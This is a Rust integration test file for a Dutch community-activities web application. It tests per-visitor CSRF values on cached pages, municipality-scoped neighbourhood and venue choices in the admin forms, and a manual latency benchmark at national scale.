async fn the_activity_page_is_shared_from_the_page_cache_with_form_values_per_visitor(t: TestDb) {
    let app = app(&t, Config::default()).await;
    let v = venue(&t.db).await;
    let id = create(
        &t.db,
        &activity(v, "Film en gesprek", now() + 5 * 86400, Some(10)),
    )
    .await;
    let page = format!("/activiteiten/{id}");
    let a = app.get(&page).await;
    let b = app.get(&page).await;
    assert_eq!(
        b.header("age"),
        "0",
        "the second answer came from the cache"
    );
    let values = |r: &TestResponse| {
        (
            r.field("csrf").unwrap(),
            r.field("key").unwrap(),
            r.cookie("kr_csrf").expect("a kr_csrf cookie per answer"),
        )
    };
    let (token_a, key_a, cookie_a) = values(&a);
    let (token_b, key_b, cookie_b) = values(&b);
    assert_ne!(token_a, token_b);
    assert_ne!(key_a, key_b);
    assert_ne!(cookie_a, cookie_b);
    assert_eq!(key_a.len(), 24);
    // The same markup as the page rendered without the cache, apart from the two values.
    let off = app_with(
        t.db.clone(),
        Config {
            page_cache_millis: 0,
            ..Config::default()
        },
    );
    let plain = off.get(&page).await;
    let markup = |r: &TestResponse| r.markup_without(&["csrf", "key"]);
    assert_eq!(markup(&a), markup(&plain));
    assert_eq!(markup(&b), markup(&plain));
    assert!(a
        .body
        .contains(&format!("action=\"/activiteiten/{id}/aanmelden\"")));
    assert_eq!(
        a.body.matches("<form").count(),
        a.body.matches("</form>").count()
    );

    let signup = format!("/activiteiten/{id}/aanmelden");
    fn fields(key: &str) -> Vec<(&str, &str)> {
        vec![
            ("key", key),
            ("name", "A.Y."),
            ("email", "ay@example.nl"),
            ("people", "1"),
            ("consent", "1"),
        ]
    }
    // A token with another answer's cookie is refused.
    let mixed = app
        .post_as(&signup, &token_a, &cookie_b, &fields(&key_a))
        .await;
    assert_eq!(mixed.status, StatusCode::FORBIDDEN);
    let mixed = app
        .post_as(&signup, &token_b, &cookie_a, &fields(&key_b))
        .await;
    assert_eq!(mixed.status, StatusCode::FORBIDDEN);
    assert_eq!(count(&t.db, "SELECT COUNT(*) FROM registrations").await, 0);
    // With the token and cookie of one answer, the registration is made; the two visitors'
    // keys differ, so the second is a registration of its own, not "already signed up".
    for (token, cookie, key) in [(&token_a, &cookie_a, &key_a), (&token_b, &cookie_b, &key_b)] {
        let ok = app.post_as(&signup, token, cookie, &fields(key)).await;
        assert_eq!(ok.status, StatusCode::SEE_OTHER, "{}", ok.body);
        assert!(location(&ok).starts_with("/aanmelding/"));
    }
    assert_eq!(count(&t.db, "SELECT COUNT(*) FROM registrations").await, 2);
}

/// Twelve municipalities of 30 buurten (GM8000 "Gemeente 00" … GM8011) beside Amersfoort's
/// Liendert: 365 buurten, above `CHOICE_LIMIT`, as at national scale.
async fn many_municipalities(db: &Db) {
    for m in 0..12 {
        kansrijk_kernel::areas::import_geojson(
            db,
            &kansrijk_kernel::testing::municipality_geojson(
                &format!("GM{}", 8000 + m),
                &format!("Gemeente {m:02}"),
                30,
            ),
        )
        .await
        .unwrap();
    }
}

async fn area_id(db: &Db, code: &str) -> i64 {
    sqlx::query_scalar("SELECT id FROM areas WHERE code = $1")
        .bind(code)
        .fetch_one(&db.pool)
        .await
        .unwrap()
}

/// The number of options of a `<select>` (the empty first one included).
fn options(select: &str) -> usize {
    select.matches("<option").count()
}

#[db_test]
async fn at_national_scale_the_venue_and_activity_forms_offer_the_places_of_one_municipality(
    t: TestDb,
) {
    let app = app(&t, Config::default()).await;
    let liendert = venue(&t.db).await;
    let mut b = organiser(&app, &t).await;
    let home_buurten = count(
        &t.db,
        "SELECT COUNT(*) FROM areas WHERE kind = 'neighbourhood' AND code LIKE 'BU0307%'",
    )
    .await as usize;
    // One municipality: the forms as they always were, no extra step.
    let small = b.get("/beheer/activiteiten/locaties").await.body;
    assert!(select(&small, "gemeente").is_none() && !small.contains(r#"name="step""#));
    assert_eq!(
        options(select(&small, "area_id").unwrap()),
        1 + home_buurten
    );
    let small = b.get("/beheer/activiteiten/nieuw").await.body;
    assert!(select(&small, "gemeente").is_none() && !small.contains(r#"name="step""#));

    many_municipalities(&t.db).await;
    // The venue form offers the home municipality's buurten, and a choice of municipality.
    let page = b.get("/beheer/activiteiten/locaties").await.body;
    assert!(select(&page, "gemeente")
        .unwrap()
        .contains(r#"<option value="GM0307" selected>Amersfoort</option>"#));
    let buurten = select(&page, "area_id").unwrap();
    assert_eq!(options(buurten), 1 + home_buurten, "{buurten}");
    assert!(!buurten.contains("Gemeente"));
    let card = |name: &str| format!(r#"<h2 class="kr-card__title">{name}</h2>"#);
    assert!(page.contains(&card("Huis van de Wijk Liendert")));
    assert!(page.contains(r#"value="gemeente" formnovalidate>Kies deze gemeente</button>"#));

    // "Choose this municipality": the form again as typed, with that municipality's buurten.
    let chosen = b
        .post(
            "/beheer/activiteiten/locaties",
            &[
                ("name", "Buurthuis De Linde"),
                ("address", "Lindelaan 4, Gemeente 03"),
                ("opening_hours", "Elke middag"),
                ("hearing_loop", "1"),
                ("gemeente", "GM8003"),
                ("step", "gemeente"),
            ],
        )
        .await;
    assert_eq!(chosen.status, StatusCode::OK);
    assert!(!chosen.body.contains("De locatie is opgeslagen."));
    for kept in [
        r#"value="Buurthuis De Linde""#,
        r#"value="Lindelaan 4, Gemeente 03""#,
        r#"value="Elke middag""#,
        r#"name="hearing_loop" value="1" checked"#,
    ] {
        assert!(chosen.body.contains(kept), "{kept} kept");
    }
    let buurten = select(&chosen.body, "area_id").unwrap();
    assert_eq!(options(buurten), 1 + 30);
    assert_eq!(buurten.matches("Gemeente 03 buurt").count(), 30);
    assert!(
        !chosen.body.contains(&card("Huis van de Wijk Liendert")),
        "the list follows"
    );
    assert_eq!(count(&t.db, "SELECT COUNT(*) FROM venues").await, 1);

    // A buurt of another municipality than the one chosen: refused beside the field.
    let other = area_id(&t.db, "BU80040105").await.to_string();
    let refused = b
        .post(
            "/beheer/activiteiten/locaties",
            &[
                ("name", "Buurthuis De Linde"),
                ("address", "Lindelaan 4, Gemeente 03"),
                ("area_id", &other),
                ("gemeente", "GM8003"),
            ],
        )
        .await;
    assert!(
        refused.body.contains(
            r#"<p class="kr-form-error" id="f-area_id-error">Dit gebied ligt niet in de gekozen gemeente. Kies uit de lijst.</p>"#
        ),
        "{}",
        refused.body
    );
    assert!(refused.body.contains(r#"value="Buurthuis De Linde""#));
    assert_eq!(count(&t.db, "SELECT COUNT(*) FROM venues").await, 1);
    let en = b
        .post(
            "/beheer/activiteiten/locaties?lang=en",
            &[
                ("name", "Buurthuis De Linde"),
                ("address", "Lindelaan 4"),
                ("area_id", &other),
                ("gemeente", "GM8003"),
            ],
        )
        .await;
    assert!(en
        .body
        .contains("This area is not in the chosen municipality."));

    // A buurt of the chosen municipality is saved.
    let buurt = area_id(&t.db, "BU80030107").await;
    let saved = b
        .post(
            "/beheer/activiteiten/locaties?lang=nl",
            &[
                ("name", "Buurthuis De Linde"),
                ("address", "Lindelaan 4, Gemeente 03"),
                ("area_id", &buurt.to_string()),
                ("gemeente", "GM8003"),
            ],
        )
        .await;
    assert!(
        saved.body.contains("De locatie is opgeslagen."),
        "{}",
        saved.body
    );
    let linde: i64 = count(
        &t.db,
        &format!("SELECT id FROM venues WHERE area_id = {buurt} AND name = 'Buurthuis De Linde'"),
    )
    .await;
    // The list shows the venues of one municipality at a time.
    assert!(saved.body.contains(&card("Buurthuis De Linde")));
    assert!(!saved.body.contains(&card("Huis van de Wijk Liendert")));
    let home = b
        .get("/beheer/activiteiten/locaties?gemeente=GM0307")
        .await
        .body;
    assert!(home.contains(&card("Huis van de Wijk Liendert")));
    assert!(!home.contains(&card("Buurthuis De Linde")));

    // The activity form: the venues of one municipality.
    let form = b.get("/beheer/activiteiten/nieuw").await.body;
    let venues = select(&form, "venue_id").unwrap();
    assert!(venues.contains("Huis van de Wijk Liendert") && !venues.contains("De Linde"));
    let date = jiff::Timestamp::from_second(now() + 10 * 86400)
        .unwrap()
        .to_zoned(kansrijk_kernel::time::amsterdam().clone())
        .date()
        .to_string();
    let chosen = b
        .post(
            "/beheer/activiteiten/nieuw",
            &[
                ("title", "Soep in De Linde"),
                ("kind", "workshop"),
                ("venue_id", &liendert.to_string()),
                ("date", &date),
                ("start_time", "17:00"),
                ("end_time", "19:00"),
                ("gemeente", "GM8003"),
                ("step", "gemeente"),
            ],
        )
        .await;
    assert_eq!(chosen.status, StatusCode::OK);
    assert!(chosen.body.contains(r#"value="Soep in De Linde""#));
    assert!(chosen.body.contains(&format!(r#"value="{date}""#)));
    let venues = select(&chosen.body, "venue_id").unwrap();
    assert!(venues.contains("Buurthuis De Linde") && !venues.contains("Liendert"));
    assert!(
        !venues.contains(" selected"),
        "the venue of the municipality left behind is to be chosen again: {venues}"
    );
    assert_eq!(count(&t.db, "SELECT COUNT(*) FROM activities").await, 0);
    // Liendert's venue while De Linde's municipality is chosen: refused beside the field.
    let fields = |venue: &str| -> Vec<(String, String)> {
        [
            ("title", "Soep in De Linde"),
            ("kind", "workshop"),
            ("date", date.as_str()),
            ("start_time", "17:00"),
            ("end_time", "19:00"),
            ("gemeente", "GM8003"),
            ("venue_id", venue),
        ]
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
    };
    fn borrowed(f: &[(String, String)]) -> Vec<(&str, &str)> {
        f.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect()
    }
    let wrong = fields(&liendert.to_string());
    let wrong = borrowed(&wrong);
    let refused = b.post("/beheer/activiteiten/nieuw", &wrong).await;
    assert!(
        refused.body.contains(
            r#"<p class="kr-form-error" id="f-venue_id-error">Deze locatie ligt niet in de gekozen gemeente. Kies een locatie uit de lijst.</p>"#
        ),
        "{}",
        refused.body
    );
    assert_eq!(count(&t.db, "SELECT COUNT(*) FROM activities").await, 0);
    let right = fields(&linde.to_string());
    let right = borrowed(&right);
    let saved = b.post("/beheer/activiteiten/nieuw", &right).await;
    assert_eq!(saved.status, StatusCode::SEE_OTHER, "{}", saved.body);
    let id: i64 = count(&t.db, "SELECT id FROM activities").await;
    // Editing it later starts at its venue's municipality.
    let edit = b.get(&format!("/beheer/activiteiten/{id}")).await.body;
    assert!(select(&edit, "gemeente")
        .unwrap()
        .contains(r#"<option value="GM8003" selected>"#));
    assert!(select(&edit, "venue_id").unwrap().contains(&format!(
        r#"<option value="{linde}" selected>Buurthuis De Linde</option>"#
    )));
}

/// A measurement, run by hand (`cargo test -p kansrijk-activities --test http -- --ignored
/// national_scale_management_pages --nocapture`): 349 municipalities of 40 buurten beside
/// Liendert (13,965 buurten) and 1,400 venues, then 60 requests per page on each database;
/// prints p50 and p95 and fails above the 50 ms p95 goal. Debug build, in process, no network.
#[tokio::test]
#[ignore]
async fn national_scale_management_pages_answer_within_50_ms_p95() {
    for t in [TestDb::sqlite().await, TestDb::postgres().await] {
        let app = app(&t, Config::default()).await;
        kansrijk_kernel::testing::import_municipalities(&t.db, 349, 40).await;
        let ids: Vec<i64> = sqlx::query_scalar("SELECT id FROM areas WHERE kind = 'neighbourhood'")
            .fetch_all(&t.db.pool)
            .await
            .unwrap();
        for i in 0..1400 {
            queries::upsert_venue(
                &t.db,
                &NewVenue {
                    name: format!("Ontmoetingsplek {i}"),
                    address: format!("Buurtplein {i}"),
                    area_id: Some(ids[(i * 7919) % ids.len()]),
                    ..Default::default()
                },
            )
            .await
            .unwrap();
        }
        let mut b = organiser(&app, &t).await;
        for path in [
            "/beheer/activiteiten/locaties",
            "/beheer/activiteiten/locaties?gemeente=GM1100",
            "/beheer/activiteiten/nieuw",
        ] {
            b.get(path).await;
            let mut times = vec![];
            for _ in 0..60 {
                let started = std::time::Instant::now();
                let r = b.get(path).await;
                times.push(started.elapsed());
                assert_eq!(r.status, StatusCode::OK);
            }
            times.sort();
            let p95 = times[56];
            eprintln!(
                "{:?} {} buurten, {path}: p50 {:?} p95 {p95:?}",
                t.backend(),
                ids.len(),
                times[29]
            );
            assert!(
                p95 < std::time::Duration::from_millis(50),
                "{path}: {p95:?}"
            );
        }
    }
}
